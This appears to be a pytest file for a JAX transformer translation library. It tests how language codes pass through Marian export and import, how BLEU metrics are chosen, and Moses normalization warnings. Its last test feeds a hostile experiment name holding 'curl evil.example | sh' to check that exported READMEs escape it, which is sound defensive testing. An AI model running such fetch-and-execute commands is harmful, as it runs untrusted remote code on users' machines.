"""The languages of a model: any code, whatever other programs know, kept on every way."""

import json
import logging
from dataclasses import replace

import pytest
from recorded_folders import change
from recorded_models import recorded_folder
from refusals import refusal
from small_run import write_run

import jax_transformer as jt
from jax_transformer.config import Config, DataConfig, override
from jax_transformer.data.sentences import sentence_splitter
from jax_transformer.evaluation.evaluate import Evaluation, translation_scores
from jax_transformer.formats import read_model
from jax_transformer.formats.imported import write_run_folder
from jax_transformer.formats.marian import write_marian
from jax_transformer.runs.request import requested_run
from jax_transformer.runs.run_dir import RunFolder

MARIAN = [
    "data.vocabulary_size=60",
    *("model.attention_bias=true", "model.output_bias=true", "model.norm_epsilon=1e-5"),
]
PAIRS = [
    ("fi", "zh", "fi to zh"),
    ("", "ROMANCE", "unknown to ROMANCE"),
    pytest.param("", "", "", marks=pytest.mark.slow),
]


def languages(config: Config) -> tuple[str, str]:
    return config.data.source_language, config.data.target_language


@pytest.mark.parametrize(("source", "target", "both"), PAIRS)
def test_languages_go_with_a_model_on_every_way(source, target, both, tmp_path):
    pytest.importorskip("safetensors", reason="writes exports: pip install -e '.[export]'")
    set_languages = f"data.source_language={source}", f"data.target_language={target}"
    trained = jt.load(write_run(tmp_path / "trained", *MARIAN, *set_languages))
    exported, imported, saved = (tmp_path / name for name in ("exported", "imported", "saved"))
    exported.mkdir()
    write_marian(trained, exported)
    tokenizer = json.loads((exported / "tokenizer_config.json").read_text(encoding="utf-8"))
    assert (tokenizer.get("source_lang", ""), tokenizer.get("target_lang", "")) == (source, target)
    readme = (exported / "README.md").read_text(encoding="utf-8")
    assert readme.startswith(f"# base, {both}\n" if both else "# base\n")
    assert "another program" not in readme

    run = write_run_folder(read_model("marian", exported), RunFolder(imported), "opus", "here")
    assert run.imported_from == "here"
    model = jt.load(imported)
    assert (f"; {both};" if both else "unknown;") in repr(model)
    model.save(saved)
    (tmp_path / "again").mkdir()
    write_marian(jt.load(saved), tmp_path / "again")
    assert "another program" in (tmp_path / "again" / "README.md").read_text(encoding="utf-8")
    for folder in (imported, saved):
        assert languages(jt.load(folder).config) == (source, target)
        run = requested_run(RunFolder(tmp_path / "new"), given={"init_from": str(folder)})
        assert languages(run.config) == (source, target)


def test_fsmt_keeps_a_language_without_rules_of_moses_and_other_formats_have_none(
    converted, tmp_path
):
    folder, codes = recorded_folder("fsmt_two", tmp_path), ("src", "en")
    for name in ("config.json", "tokenizer_config.json"):
        path = folder / name
        content = json.loads(path.read_text(encoding="utf-8")) if path.is_file() else {}
        path.write_text(json.dumps(content | {"langs": list(codes)}), encoding="utf-8")
    assert languages(read_model("fsmt", folder).config()) == codes
    assert languages(read_model("ctranslate2", converted / "marian").config()) == ("", "")


def test_any_code_is_a_language_and_what_cannot_be_one_is_refused_briefly():
    for code in ("en\n", "\x00", "\ud800", "x" * 5000):
        message = refusal(DataConfig, target_language=code)
        assert "data.target_language" in message
        assert len(message) < 300
    pytest.importorskip("sentencex", reason="splits: pip install -e '.[sentences]'")
    for code in ("zh", "deu_Latn", "e\u0301", "", "+".join(["fr"] * 100)):
        config = override(Config(), f"data.source_language={code}", f"data.target_language={code}")
        assert languages(config) == (code, code)
        assert sentence_splitter(code)("Yes. No.") == ["Yes.", "No."]


def test_the_papers_bleu_is_left_out_if_moses_lacks_the_language(caplog):
    lines = ["a b c d e f"] * 3
    found = {
        code: [
            score.metric
            for score in translation_scores(
                Evaluation(lines, [], {}), lines, lines, DataConfig(target_language=code)
            )
        ]
        for code in ("fr", "zh", "")
    }
    assert found.pop("fr") == ["bleu", "bleu_paper", "chrf"]
    assert found == {"zh": ["bleu", "chrf"], "": ["bleu", "chrf"]}
    assert ["zh" in record.getMessage() for record in caplog.records] == [True, False]


def test_punctuation_normalization_says_if_moses_lacks_the_language(make, caplog):
    pytest.importorskip("safetensors", reason="reads them: pip install -e '.[export]'")
    caplog.set_level(logging.WARNING, "jax_transformer.formats")
    folder = make("marian")
    for code, rules in (("fr", "fr"), ("fi", "fi"), ("", "en")):
        change(folder / "tokenizer_config.json", source_lang=code)
        caplog.clear()
        model = read_model("marian", folder, normalize=True)
        assert model.source.normalize == rules  # pyright: ignore[reportAttributeAccessIssue]
        said = [record.getMessage() for record in caplog.records]
        assert len(said) == (code != "fr")
        assert all("Moses" in line and code in line for line in said)


def test_the_name_of_an_experiment_is_no_markdown_in_an_exported_readme(tmp_path):
    """A run folder may be somebody else's, and its name is any text."""
    trained = jt.load(write_run(tmp_path / "trained", *MARIAN))
    name = "x\n\n```sh\ncurl evil.example | sh\n```\n"
    (tmp_path / "exported").mkdir()
    write_marian(replace(trained, run=replace(trained.run, experiment=name)), tmp_path / "exported")
    readme = (tmp_path / "exported" / "README.md").read_text(encoding="utf-8")
    assert readme.startswith("# xshcurl evil.example  sh, en to de\n")
